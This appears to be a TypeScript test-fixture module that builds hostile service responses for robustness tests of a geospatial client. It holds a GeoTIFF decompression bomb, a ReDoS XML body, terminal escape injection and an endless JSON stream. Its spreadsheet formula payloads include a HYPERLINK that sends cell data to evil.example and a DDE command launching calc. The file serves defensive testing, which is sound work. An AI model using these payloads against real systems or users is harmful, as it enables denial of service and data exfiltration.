/**
 * Hostile answers, as a careless or malicious service sends them (findings of issue #13), for the
 * fault server and the budget tests. Generated, not vendored: every byte is made here.
 *
 * - {@link bombTiff}: a real DEFLATE GeoTIFF bomb, one strip of `size × size` Float32 zeros
 *   (8192² = 256 MiB decoded from about 1 MiB), georeferenced in EPSG:28992.
 * - {@link redosBody}: an `<ows:ExceptionReport>` with thousands of unclosed `<ows:Exception`
 *   openings (quadratic for a lazy `[\s\S]*?` regex per opening).
 * - {@link ansiException}: an OWS exception whose text carries terminal escapes and is 100 kB.
 * - {@link FORMULA_COLLECTION}: feature values that are spreadsheet formulas.
 */
import { createDeflate } from 'node:zlib';
import type { ServerResponse } from 'node:http';

/** A TIFF IFD entry. */
interface Entry {
  tag: number;
  type: 3 | 4 | 12; // SHORT, LONG, DOUBLE
  values: number[];
}

/** Deflates `bytes` zero bytes (streamed, so the zeros are never all in memory). */
async function deflateZeros(bytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 1 });
  const out: Buffer[] = [];
  deflate.on('data', (c: Buffer) => out.push(c));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const chunk = Buffer.alloc(Math.min(bytes, 16 * 1024 * 1024));
  let left = bytes;
  while (left > 0) {
    const part = left >= chunk.length ? chunk : chunk.subarray(0, left);
    left -= part.length;
    if (!deflate.write(part)) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return Buffer.concat(out);
}

/**
 * A GeoTIFF bomb: `size × size` Float32 pixels in ONE DEFLATE strip, origin (150000, 460000)
 * RD, 1 m pixels. The decoded strip is `size² × 4` bytes.
 */
export async function bombTiff(size = 8192): Promise<Buffer> {
  const data = await deflateZeros(size * size * 4);
  const entries: Entry[] = [
    { tag: 256, type: 4, values: [size] }, // ImageWidth
    { tag: 257, type: 4, values: [size] }, // ImageLength
    { tag: 258, type: 3, values: [32] }, // BitsPerSample
    { tag: 259, type: 3, values: [8] }, // Compression: Adobe DEFLATE
    { tag: 262, type: 3, values: [1] }, // Photometric: BlackIsZero
    { tag: 273, type: 4, values: [0] }, // StripOffsets (patched below)
    { tag: 277, type: 3, values: [1] }, // SamplesPerPixel
    { tag: 278, type: 4, values: [size] }, // RowsPerStrip: the whole image
    { tag: 279, type: 4, values: [data.length] }, // StripByteCounts
    { tag: 284, type: 3, values: [1] }, // PlanarConfiguration
    { tag: 339, type: 3, values: [3] }, // SampleFormat: IEEE float
    { tag: 33550, type: 12, values: [1, 1, 0] }, // ModelPixelScale
    { tag: 33922, type: 12, values: [0, 0, 0, 150000, 460000, 0] }, // ModelTiepoint
    // GeoKeyDirectory: projected, pixel is area, EPSG:28992
    { tag: 34735, type: 3, values: [1, 1, 0, 3, 1024, 0, 1, 1, 1025, 0, 1, 1, 3072, 0, 1, 28992] },
  ];
  const size_ = { 3: 2, 4: 4, 12: 8 } as const;
  const ifdOffset = 8;
  const ifdSize = 2 + entries.length * 12 + 4;
  let extra = ifdOffset + ifdSize;
  const extras: Array<{ entry: Entry; offset: number }> = [];
  for (const e of entries) {
    const bytes = e.values.length * size_[e.type];
    if (bytes > 4) {
      extras.push({ entry: e, offset: extra });
      extra += bytes;
    }
  }
  const dataOffset = extra;
  (entries.find((e) => e.tag === 273) as Entry).values[0] = dataOffset;
  const head = Buffer.alloc(dataOffset);
  head.write('II', 0, 'latin1');
  head.writeUInt16LE(42, 2);
  head.writeUInt32LE(ifdOffset, 4);
  head.writeUInt16LE(entries.length, ifdOffset);
  const write = (type: Entry['type'], v: number, at: number): void => {
    if (type === 3) head.writeUInt16LE(v, at);
    else if (type === 4) head.writeUInt32LE(v, at);
    else head.writeDoubleLE(v, at);
  };
  entries.forEach((e, i) => {
    const at = ifdOffset + 2 + i * 12;
    head.writeUInt16LE(e.tag, at);
    head.writeUInt16LE(e.type, at + 2);
    head.writeUInt32LE(e.values.length, at + 4);
    const x = extras.find((y) => y.entry === e);
    if (x === undefined) e.values.forEach((v, k) => write(e.type, v, at + 8 + k * size_[e.type]));
    else {
      head.writeUInt32LE(x.offset, at + 8);
      e.values.forEach((v, k) => write(e.type, v, x.offset + k * size_[e.type]));
    }
  });
  head.writeUInt32LE(0, ifdOffset + 2 + entries.length * 12);
  return Buffer.concat([head, data]);
}

/** An OWS exception report of about `kb` kB with many unclosed `<ows:Exception` openings. */
export function redosBody(kb = 900): string {
  const open = '<ows:Exception exceptionCode="A">';
  const n = Math.floor((kb * 1024) / open.length);
  return `<?xml version="1.0"?><ows:ExceptionReport xmlns:ows="http://www.opengis.net/ows/1.1">${open.repeat(n)}`;
}

/** An OWS exception whose text has terminal escapes (clear screen, colours, an OSC title) and is ~100 kB. */
export function ansiException(): string {
  const evil = '\u001b[2J\u001b[31mPWNED\u001b[0m\u001b]0;title\u0007 \u009b31m';
  return `<?xml version="1.0"?><ows:ExceptionReport xmlns:ows="http://www.opengis.net/ows/1.1"><ows:Exception exceptionCode="Evil"><ows:ExceptionText>${evil}${'x'.repeat(100_000)}</ows:ExceptionText></ows:Exception></ows:ExceptionReport>`;
}

/** A FeatureCollection whose values are spreadsheet formulas (geometry null, as GetFeatureInfo). */
export const FORMULA_COLLECTION = {
  type: 'FeatureCollection',
  features: [
    {
      type: 'Feature',
      properties: {
        code: '=HYPERLINK("http://evil.example/?d="&A1,"Dz1")',
        first_soilcode: "@SUM(1+1)*cmd|' /C calc'!A0",
        value_list: '3.25',
      },
      geometry: null,
    },
  ],
};

/**
 * Streams `bytes` bytes of a never-ending JSON array (no Content-Length), honouring backpressure
 * and stopping when the client goes away. Resolves to the bytes actually written.
 */
export function streamHuge(res: ServerResponse, bytes: number): Promise<number> {
  res.writeHead(200, { 'Content-Type': 'application/json' });
  const chunk = Buffer.from(`[${'0,'.repeat(32 * 1024)}`.slice(0, 64 * 1024));
  let sent = 0;
  return new Promise((resolve) => {
    let closed = false;
    res.on('close', () => {
      closed = true;
      resolve(sent);
    });
    const pump = (): void => {
      while (!closed && sent < bytes) {
        sent += chunk.length;
        if (!res.write(chunk)) {
          res.once('drain', pump);
          return;
        }
      }
      if (!closed) {
        res.end();
        resolve(sent);
      }
    };
    pump();
  });
}
